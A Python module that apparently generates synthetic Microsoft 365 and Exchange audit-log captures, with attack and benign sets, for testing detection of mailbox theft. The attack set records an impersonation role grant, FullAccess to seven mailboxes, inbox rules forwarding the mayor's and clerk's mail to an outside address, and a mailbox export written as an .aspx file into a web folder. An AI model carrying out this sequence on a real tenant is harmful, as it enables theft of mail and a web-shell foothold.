"""Captures of `mailbox-theft`: Microsoft 365's unified audit log and the cmdlets of an Exchange server."""

import json
from collections.abc import Iterable
from datetime import UTC, datetime, timedelta
from pathlib import Path

from tools.captures import PACK

FIRST = datetime(2026, 2, 2, 8, tzinfo=UTC)
DOMAIN = "town.example"
Record = dict[str, object]


def attack(folder: Path) -> None:
    """A role, seven mailboxes and an export by one account; two rules to one address; an export to a web folder."""
    admin, outside = f"it-admin@{DOMAIN}", "198.51.100.7"
    at = FIRST + timedelta(days=12, hours=13)
    records = [
        *_routine(),
        _call(at, "New-ManagementRoleAssignment", admin, outside, Role="ApplicationImpersonation", User="svc-sync"),
        *(
            _call(at + timedelta(minutes=10 + number), "Add-MailboxPermission", admin, outside,
                  Identity=f"councillor{number}", User="svc-sync", AccessRights="FullAccess")
            for number in range(7)
        ),
        _call(at + timedelta(hours=2), "New-ComplianceSearch", admin, outside, Name="audit", ExchangeLocation="All"),
        *(
            _call(at + timedelta(days=1, minutes=number), "New-InboxRule", f"{user}@{DOMAIN}", outside,
                  Name=".", ForwardTo="smtp:archive@mail.example", MarkAsRead="True")
            for number, user in enumerate(("mayor", "clerk"))
        ),
    ]  # fmt: skip
    _write(folder, "m365.jsonl", records)
    path = r"\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\d.aspx"
    parameters = f'-Mailbox "admin" -FilePath "{path}" -IncludeFolders "#Drafts#"'
    _write(folder, "exchange.jsonl", [_cmdlet(FIRST + timedelta(days=3), "New-MailboxExportRequest", parameters)])


def benign(folder: Path) -> None:
    """A migration window's routine: the legal department's searches, deputies, private forwards and internal rules."""
    user = f"anna@{DOMAIN}"
    records = [
        *_routine(),
        _call(
            FIRST + timedelta(days=4), "New-InboxRule", user, "192.0.2.5", Name="home", ForwardTo="anna@home.example"
        ),
        _call(
            FIRST + timedelta(days=5), "New-InboxRule", user, "192.0.2.5", ForwardTo=f"bob@{DOMAIN}", MarkAsRead="True"
        ),
        _call(
            FIRST + timedelta(days=6),
            "Set-Mailbox",
            f"helpdesk@{DOMAIN}",
            "192.0.2.9",
            Identity="anna",
            MaxSendSize="35MB",
        ),
        _call(
            FIRST + timedelta(days=6),
            "New-ManagementRoleAssignment",
            f"helpdesk@{DOMAIN}",
            "192.0.2.9",
            Role="Reset Password",
        ),
    ]
    _write(folder, "m365.jsonl", records)
    cmdlets = [_cmdlet(FIRST + timedelta(days=1), "Get-Mailbox", '-ResultSize "Unlimited"')]
    _write(folder, "exchange.jsonl", cmdlets)


def _routine() -> Iterable[Record]:
    """The help desk opens a mailbox to a deputy a day; after a week of holds its lawyers search and export."""
    for day in range(14):
        at = FIRST + timedelta(days=day)
        yield _call(at, "Add-MailboxPermission", f"helpdesk@{DOMAIN}", "192.0.2.9",
                    Identity=f"box{day}", User=f"deputy{day % 3}", AccessRights="FullAccess")  # fmt: skip
        operation = ("Get-ComplianceSearch", "Set-CaseHoldPolicy")[day % 2]
        yield _call(at + timedelta(hours=1), operation, f"legal@{DOMAIN}", "192.0.2.30", Identity="case 7")
    for day in range(9, 13):
        at = FIRST + timedelta(days=day, hours=3)
        yield _call(
            at, "New-ComplianceSearch", f"legal@{DOMAIN}", "192.0.2.30", Name=f"case 7.{day}", ExchangeLocation="All"
        )
        yield _call(at + timedelta(hours=1), "SearchExported", f"legal@{DOMAIN}", "192.0.2.30", Name=f"case 7.{day}")


def _call(at: datetime, operation: str, user: str, address: str, **parameters: str) -> Record:
    return {
        "CreationTime": f"{at:%Y-%m-%dT%H:%M:%S}", "Id": f"{operation}-{at:%d%H%M}", "Operation": operation,
        "OrganizationId": "5f1c", "RecordType": 1, "ResultStatus": "True", "UserKey": user, "UserType": 2, "Version": 1,
        "Workload": "Exchange", "ClientIP": address, "ObjectId": parameters.get("Identity", ""), "UserId": user,
        "Parameters": [{"Name": name, "Value": value} for name, value in parameters.items()],
    }  # fmt: skip


def _cmdlet(at: datetime, name: str, parameters: str) -> Record:
    who = f"{DOMAIN}/Users/it-admin"
    return {
        "Channel": "MSExchange Management", "EventID": 1, "Computer": f"mail1.{DOMAIN}",
        "TimeCreated": f"{at:%Y-%m-%dT%H:%M:%S}Z", "Data": [name, parameters, who, "S-1-5-21-7-7-7-1111"],
    }  # fmt: skip


def _write(folder: Path, name: str, records: Iterable[Record]) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_text("".join(json.dumps(record) + "\n" for record in records), encoding="utf-8")


if __name__ == "__main__":
    attack(PACK / "mailbox-theft" / "attack")
    benign(PACK / "mailbox-theft" / "benign")
